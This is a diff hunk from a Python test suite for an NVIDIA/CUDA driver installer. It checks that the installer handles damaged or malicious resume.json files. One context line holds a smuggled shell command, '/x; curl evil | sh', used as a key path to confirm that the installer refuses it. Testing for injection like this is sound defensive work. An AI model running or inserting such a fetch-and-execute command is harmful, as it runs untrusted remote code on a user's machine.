@@ -281,6 +281,25 @@ open(os.path.join(b.state, "resume.json"), "w").write(json.dumps({"after": "driv
                                                                    "mok_cert": "/x; curl evil | sh", "boot_id": "y"}))
 r = b.install()
 t.ok(r.rc == 2 and b.calls() == [], "a resume.json whose key path is a shell command: refused (exit 2)", r)
+# An empty or cut-short resume.json (issue 46 item 8): with no NVIDIA driver loaded, refused with what to do; with one
+# loaded, there is nothing left to resume: it goes, said so, and the install goes on.
+for what, text in (("empty", ""), ("cut short", '{"after": "driver", "bra')):
+    b = Box("resume-damaged", GTX970)
+    os.makedirs(b.state)
+    open(os.path.join(b.state, "resume.json"), "w").write(text)
+    r = b.install()
+    d = r.json() or {}
+    t.ok(r.rc == 2 and "resume.json" in (d.get("error") or "") and "cudaup doctor" in (d.get("advice") or "")
+         and "rm " in (d.get("advice") or "") and b.calls() == [],
+         "a resume.json %s, no NVIDIA driver loaded: refused (exit 2), saying what to do" % what, r)
+LOADED = {"os": "ubuntu2404", "driver": "580.95.05", "cuda": 13000,
+          "gpus": [("0000:01:00.0", "2684", "0x030000", "nvidia", "8.9", 24564, "NVIDIA GeForce RTX 4090")]}
+b = Box("resume-damaged-loaded", LOADED)
+os.makedirs(b.state)
+open(os.path.join(b.state, "resume.json"), "w").write('{"after": "driver", "branch": 5')
+r = b.install(json_out=False, CUDAUP_DRIVER="keep")
+t.ok(r.rc in (0, 4) and not os.path.exists(os.path.join(b.state, "resume.json")) and "is not valid JSON" in r.err
+     and "580.95.05 is loaded" in r.err, "a cut-short resume.json with the NVIDIA driver loaded: removed, said so, the install goes on", r)
 
 # ---- class 7: a held dpkg lock is waited for, and said; the manager's output is streamed ----
 b = Box("lock", GTX970)
